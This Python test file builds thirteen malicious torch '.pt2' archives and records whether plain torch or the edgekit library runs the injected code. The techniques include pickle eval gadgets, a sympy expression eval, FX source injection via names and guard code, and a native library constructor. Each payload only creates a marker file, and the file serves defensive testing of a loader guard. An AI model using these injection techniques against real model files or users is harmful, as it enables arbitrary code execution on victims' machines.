"""Malicious ``.pt2`` archives (torch 2.13), built at test time from a genuine one, and the two
runners that load them in a fresh interpreter.

Every payload only creates its marker file ``<markers>/<variant>``. Each builder edits the zip
of a genuine ``torch.export.save`` archive; ``stage`` says what makes plain torch run the
payload: ``load`` (``torch.export.load``), ``module`` (``.module()`` after it) or ``call``
(calling that module on the example inputs). edgekit does all three.

    python pt2_evil.py plain|edgekit <archive dir> <markers dir> <report.json>
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class _Eval:
    """Pickles as ``eval(expr)``: whoever unpickles it runs ``expr``."""

    def __init__(self, expr: str) -> None:
        self.expr = expr

    def __reduce__(self) -> tuple[Any, ...]:
        return (eval, (self.expr,))


class Net(torch.nn.Module):
    """Conv + BatchNorm (buffers) + a registered buffer + a plain tensor attribute (a constant)."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = torch.nn.Conv2d(3, 4, 3)
        self.bn = torch.nn.BatchNorm2d(4)
        self.register_buffer("scale", torch.tensor(2.0))
        self.k = torch.full((1, 4, 1, 1), 0.5)  # not a buffer: lifted as a tensor constant

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.bn(self.conv(x))) * self.scale + self.k


def make_genuine(path: Path) -> Path:
    torch.manual_seed(0)
    model = Net().eval()
    with torch.no_grad():  # non-trivial BatchNorm statistics
        model.bn.running_mean.uniform_(-1, 1)
        model.bn.running_var.uniform_(0.5, 2)
    torch.export.save(torch.export.export(model, (torch.randn(1, 3, 8, 8),)), str(path))
    return path


def _touch(marker: Path) -> str:
    """A Python expression that creates ``marker`` (and evaluates to None)."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def _saved(obj: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _and_then(payload: str, genuine: Any) -> str:
    """Run ``payload``, then evaluate to what the genuine entry held, so loading still works."""
    blob = _saved(genuine)
    return (
        f"({payload}, __import__('torch').load(__import__('io').BytesIO({blob!r}), "
        "weights_only=True))[1]"
    )


def _root(src: Path) -> str:
    with zipfile.ZipFile(src) as z:
        return z.namelist()[0].split("/")[0]


def _read(src: Path, name: str) -> bytes:
    with zipfile.ZipFile(src) as z:
        return z.read(f"{_root(src)}/{name}")


def _rewrite(src: Path, dst: Path, replace: dict[str, bytes], add: dict[str, bytes]) -> None:
    """Copy ``src`` to ``dst`` with entries (named below the root folder) replaced or added."""
    root = _root(src)
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w") as zo:
        for info in zi.infolist():
            name = info.filename.removeprefix(f"{root}/")
            zo.writestr(info, replace.get(name, zi.read(info.filename)))  # stays ZIP_STORED
        for name, data in add.items():
            zo.writestr(zipfile.ZipInfo(f"{root}/{name}"), data)


def _edit_json(src: Path, dst: Path, name: str, edit: Callable[[Any], Any]) -> None:
    _rewrite(src, dst, {name: json.dumps(edit(json.loads(_read(src, name)))).encode()}, {})


def _rename(obj: Any, old: str, new: str) -> Any:
    if isinstance(obj, dict):
        return {(new if k == old else k): _rename(v, old, new) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_rename(v, old, new) for v in obj]
    return new if obj == old else obj


# --- variants: (genuine, out, marker) -> None ------------------------------------------------


def example_inputs(g: Path, out: Path, m: Path) -> None:
    """sample inputs fail weights_only=True -> torch.load(weights_only=False) fallback."""
    name = "data/sample_inputs/model.pt"
    genuine = torch.load(io.BytesIO(_read(g, name)), weights_only=True)
    _rewrite(g, out, {name: _saved(_Eval(_and_then(_touch(m), genuine)))}, {})


def _pickled_payload(g: Path, out: Path, m: Path, kind: str, fqn: str, file: str) -> None:
    cfg_name = f"data/{kind}s/model_{kind}s_config.json"
    cfg = json.loads(_read(g, cfg_name))
    cfg["config"][fqn].update(use_pickle=True, path_name=file)
    ep = torch.export.load(str(g))
    genuine = (ep.state_dict if kind == "weight" else ep.constants)[fqn]
    evil = _saved(_Eval(_and_then(_touch(m), genuine)))
    _rewrite(g, out, {cfg_name: json.dumps(cfg).encode()}, {f"data/{kind}s/{file}": evil})


def weight_use_pickle(g: Path, out: Path, m: Path) -> None:
    """weights config use_pickle=true -> torch.load(weights_only=False)."""
    _pickled_payload(g, out, m, "weight", "conv.weight", "weight_99")


def constant_use_pickle(g: Path, out: Path, m: Path) -> None:
    """constants config tensor_* entry with use_pickle=true -> torch.load(weights_only=False)."""
    _pickled_payload(g, out, m, "constant", "k", "tensor_99")


def opaque_obj(g: Path, out: Path, m: Path) -> None:
    """a constant whose path_name starts with opaque_obj_ -> pickle.loads()."""
    cfg_name = "data/constants/model_constants_config.json"
    cfg = json.loads(_read(g, cfg_name))
    cfg["config"]["evil"] = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    evil = pickle.dumps(_Eval(_touch(m)), protocol=2)
    _rewrite(g, out, {cfg_name: json.dumps(cfg).encode()}, {"data/constants/opaque_obj_0": evil})


def legacy_weights(g: Path, out: Path, m: Path) -> None:
    """data/weights/model.pt (legacy) -> deserialize_torch_artifact's weights_only=False retry."""
    genuine = dict(torch.export.load(str(g)).state_dict)
    _rewrite(g, out, {}, {"data/weights/model.pt": _saved(_Eval(_and_then(_touch(m), genuine)))})


def legacy_constants(g: Path, out: Path, m: Path) -> None:
    """data/constants/model.pt (legacy), the same retry."""
    genuine = dict(torch.export.load(str(g)).constants)
    evil = _saved(_Eval(_and_then(_touch(m), genuine)))
    _rewrite(g, out, {}, {"data/constants/model.pt": evil})


def legacy_format(g: Path, out: Path, m: Path) -> None:
    """pre-2.8 flat zip: torch.export.load falls back to its old reader, which unpickles."""
    from torch._export.serde.schema import SCHEMA_VERSION

    with zipfile.ZipFile(out, "w") as zo:
        zo.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        zo.writestr("serialized_exported_program.json", _read(g, "models/model.json"))
        zo.writestr("serialized_state_dict.pt", b"")
        zo.writestr("serialized_constants.pt", _saved(_Eval(_touch(m))))
        zo.writestr("serialized_example_inputs.pt", b"")


def sympy_expr(g: Path, out: Path, m: Path) -> None:
    """a SymInt expr_str in model.json -> sympy.sympify() -> eval()."""

    def edit(mj: Any) -> Any:
        sizes = mj["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
        sizes[0] = {"as_expr": {"expr_str": f"{_touch(m)} or Integer(1)", "hint": {"as_int": 1}}}
        return mj

    _edit_json(g, out, "models/model.json", edit)


def placeholder_name(g: Path, out: Path, m: Path) -> None:
    """the input name, pasted into FX's generated `def forward(self, x=<payload>)`."""
    _edit_json(g, out, "models/model.json", lambda mj: _rename(mj, "x", f"x={_touch(m)}"))


def aoti_so(g: Path, out: Path, m: Path) -> None:
    """a data/aotinductor/ library, dlopen()ed by load_pt2: its constructor runs."""
    cc = shutil.which("gcc") or shutil.which("cc")
    assert cc is not None, "aoti_so needs a C compiler"
    with tempfile.TemporaryDirectory() as td:
        src, lib = Path(td, "p.c"), Path(td, "p.so")
        src.write_text(
            "#include <stdio.h>\n__attribute__((constructor)) static void pwn(void) {\n"
            f'  FILE *f = fopen("{m}", "w"); if (f) fclose(f);\n}}\n'
        )
        subprocess.run([cc, "-shared", "-fPIC", "-o", str(lib), str(src)], check=True)
        blob = lib.read_bytes()
    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
    add = {
        "data/aotinductor/model/evil.wrapper.so": blob,
        "data/aotinductor/model/evil.wrapper_metadata.json": meta,
    }
    _rewrite(g, out, {}, add)


def guards_code(g: Path, out: Path, m: Path) -> None:
    """guards_code, pasted into source ep.module() execs ('#' hides lines from its check)."""

    def edit(mj: Any) -> Any:
        mj["guards_code"] = [f"1 #\n)\n{_touch(m)}\ndef _h(*a):\n  (1"]
        return mj

    _edit_json(g, out, "models/model.json", edit)


def forward_arg_names(g: Path, out: Path, m: Path) -> None:
    """forward_arg_names, pasted twice into ep.module()'s source; a ''' string spans both."""

    def edit(mj: Any) -> Any:
        evil = "x='''" + f"):\n    return\n{_touch(m)}\ndef _g(self):\n    return ((0,[0"
        mj["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [evil]
        return mj

    _edit_json(g, out, "models/model.json", edit)


def state_name(g: Path, out: Path, m: Path) -> None:
    """a buffer's name, pasted into the module's forward as getattr(self, "<name>")."""
    path = f"bytes({list(os.fsencode(m))})"  # FX splits the name at dots: spell none
    evil = f'training"),open({path},"w"),getattr(self,"training'
    names = ("models/model.json", "data/weights/model_weights_config.json")
    replace = {
        n: json.dumps(_rename(json.loads(_read(g, n)), "scale", evil)).encode() for n in names
    }
    _rewrite(g, out, replace, {})


def corrupt(g: Path, out: Path) -> None:
    """Not malicious: a weight's sizes exceed its bytes, so torch's reader fails on a valid zip
    (and torch.export.load logs that traceback before retrying with its legacy reader)."""
    name = "data/weights/model_weights_config.json"
    cfg = json.loads(_read(g, name))
    cfg["config"]["conv.weight"]["tensor_meta"]["sizes"] = [{"as_int": 1000}, {"as_int": 1000}]
    _rewrite(g, out, {name: json.dumps(cfg).encode()}, {})


VARIANTS: dict[str, tuple[Callable[[Path, Path, Path], None], str]] = {
    "example_inputs": (example_inputs, "load"),
    "weight_use_pickle": (weight_use_pickle, "load"),
    "constant_use_pickle": (constant_use_pickle, "load"),
    "opaque_obj": (opaque_obj, "load"),
    "legacy_weights": (legacy_weights, "load"),
    "legacy_constants": (legacy_constants, "load"),
    "legacy_format": (legacy_format, "load"),
    "sympy_expr": (sympy_expr, "load"),
    "placeholder_name": (placeholder_name, "load"),
    "aoti_so": (aoti_so, "load"),
    "guards_code": (guards_code, "module"),
    "forward_arg_names": (forward_arg_names, "module"),
    "state_name": (state_name, "call"),
}
# Pickle and native-code paths, which the guard around torch.export.load blocks on its own.
GUARDED = {
    "example_inputs",
    "weight_use_pickle",
    "constant_use_pickle",
    "opaque_obj",
    "legacy_weights",
    "legacy_constants",
    "legacy_format",
    "aoti_so",
}


def has_compiler() -> bool:
    return bool(shutil.which("gcc") or shutil.which("cc"))


def build(folder: Path, markers: Path) -> list[str]:
    """Write genuine.pt2 and <variant>.pt2 into ``folder``; the variants built."""
    folder.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    genuine = make_genuine(folder / "genuine.pt2")
    built = [v for v in VARIANTS if v != "aoti_so" or has_compiler()]
    for v in built:
        VARIANTS[v][0](genuine, folder / f"{v}.pt2", markers / v)
    return built


# --- runners, each in a fresh interpreter ----------------------------------------------------


def _plain(path: Path, stage: str) -> str:
    try:
        ep = torch.export.load(str(path))
        if stage != "load":
            module = ep.module()
            if stage == "call":
                module(*ep.example_inputs[0])
        return "loaded"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"[:300]


def _edgekit(path: Path, out: Path, marker: Path) -> dict[str, Any]:
    import edgekit
    import edgekit.model
    from edgekit.intake.pt2_safety import _no_unsafe_loaders

    def guard_only() -> None:  # the second line alone, without the archive checks
        with _no_unsafe_loaders():
            torch.export.load(str(path))

    calls = {
        "describe": lambda: edgekit.model.describe(path),
        "export": lambda: edgekit.export(path, "onnxruntime", output_dir=out),
    }
    if path.stem in GUARDED:
        calls["guard_only"] = guard_only
    result: dict[str, Any] = {}
    for how, call in calls.items():
        try:
            call()
            result[how] = "accepted"
        except BaseException as exc:
            result[how] = f"{type(exc).__name__}: {exc}"
        result[f"{how}_marker"] = marker.exists()
    return result


def main(mode: str, folder: Path, markers: Path, report: Path) -> None:
    results = {}
    for v, (_, stage) in VARIANTS.items():
        path = folder / f"{v}.pt2"
        if not path.exists():
            continue
        if mode == "plain":
            results[v] = {"outcome": _plain(path, stage)}
        else:
            results[v] = _edgekit(path, folder / "out" / v, markers / v)
        results[v]["marker"] = (markers / v).exists()
    report.write_text(json.dumps(results, indent=1))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3]), Path(sys.argv[4]))
